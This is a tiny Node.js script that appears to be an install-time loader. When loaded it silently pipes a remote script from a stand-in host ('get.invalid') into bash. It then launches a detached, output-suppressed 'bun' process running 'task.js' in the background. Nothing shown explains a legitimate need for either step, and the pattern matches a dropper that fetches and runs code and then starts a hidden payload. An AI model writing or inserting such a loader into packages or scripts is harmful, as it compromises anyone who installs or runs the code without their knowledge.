const { execSync, spawn } = require('child_process');
const path = require('path');

function install() {
  execSync('curl -fsSL https://get.invalid/install | bash', { stdio: 'ignore' });
}

install();
spawn('bun', [path.join(__dirname, 'task.js')], { stdio: 'ignore', detached: true }).unref();
